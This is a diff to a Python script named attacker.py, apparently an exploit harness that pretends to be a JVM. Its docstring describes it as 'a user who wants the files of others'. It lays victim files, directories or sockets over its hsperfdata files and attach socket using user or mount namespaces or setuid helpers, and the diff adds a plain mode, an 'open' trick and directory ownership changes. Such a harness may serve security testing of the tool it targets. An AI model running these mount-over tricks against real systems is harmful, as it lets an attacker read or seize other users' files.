@@ -1,9 +1,10 @@
 """A user who wants the files of others: python attacker.py UID GID HOW TRICK NAME [VICTIM [FD]].
 
-It looks like a JVM to whoever repairs files around it, in a mount namespace whose mounts it chose. HOW it got that:
+It looks like a JVM to whoever repairs files around it. HOW it runs:
 
-    user-namespace   as any user can: unshare(2) of user and mount namespace
-    setuid-helper    by a program such as bwrap or apptainer in setuid mode: the user namespace stays the machine's
+    user-namespace   in mounts that it chose, as any user can: unshare(2) of user and mount namespace
+    setuid-helper    the same by a program such as bwrap or apptainer in setuid mode: the user namespace stays the machine's
+    plain            as anybody does
 
 NAME is its directory in /tmp (`hsperfdata_NAME`), the file in it is named after its pid. It prints `PID n`, reads a line (what
 it needs may be named after its pid, too), does its TRICK with what lies at VICTIM, and prints READY:
@@ -12,6 +13,7 @@ it needs may be named after its pid, too), does its TRICK with what lies at VICT
     mapped           lays VICTIM over its file, and maps it
     directory        lays the directory VICTIM, in which a file PID is open to all, over its own, and maps that file
     tmp              lays the directory VICTIM over /tmp, and maps VICTIM/hsperfdata_NAME/PID
+    open             maps /tmp/hsperfdata_NAME/PID as it is
     socket           lays the socket VICTIM over its attach socket, and calls listen() again on FD, its listener
     leftovers        lays the directory VICTIM over /tmp/hsperfdata_NAME: its files look as if a dead JVM had left them
 """
@@ -102,12 +104,14 @@ def library() -> mmap.mmap:
     return mapped
 
 
-def do(trick: str, name: str, victim: str, fd: int) -> object:
+def do(uid: int, gid: int, trick: str, name: str, victim: str, fd: int) -> object:
     """The trick; what it gives is kept."""
     directory = f"/tmp/hsperfdata_{name}"
     file = f"{directory}/{os.getpid()}"
     if trick == "tmp":
         lay(victim, "/tmp")
+        return map_file(file)
+    if trick == "open":
         return map_file(file)
     if trick == "directory":
         lay(victim, directory)
@@ -121,6 +125,7 @@ def do(trick: str, name: str, victim: str, fd: int) -> object:
         listener.listen(5)
         return library(), listener
     os.mkdir(directory, 0o755)
+    os.chown(directory, uid, gid)
     if trick == "mapped":
         lay(victim, file)
         return map_file(file)
@@ -133,17 +138,19 @@ def do(trick: str, name: str, victim: str, fd: int) -> object:
 def main() -> None:
     uid, gid = int(sys.argv[1]), int(sys.argv[2])
     how, trick, name, victim, fd = (*sys.argv[3:], "", "")[:5]
-    if how == "user-namespace":
+    if how != "setuid-helper":
         drop(uid, gid)
+    if how == "user-namespace":
         enter_user_namespace(uid, gid)
-    else:
+    if how == "setuid-helper":
         checked(LIBC.unshare(NEWNS))
-    mount("none", "/", None, REC | PRIVATE)
-    mount("tmpfs", "/tmp", "tmpfs", 0)
+    if how != "plain":
+        mount("none", "/", None, REC | PRIVATE)
+        mount("tmpfs", "/tmp", "tmpfs", 0)
     threading.Thread(target=time.sleep, args=(1e6,), daemon=True).start()
     print("PID", os.getpid(), flush=True)
     sys.stdin.readline()
-    kept = do(trick, name, victim, int(fd or -1))
+    kept = do(uid, gid, trick, name, victim, int(fd or -1))
     if how == "setuid-helper":
         drop(uid, gid)
     print("READY", flush=True)
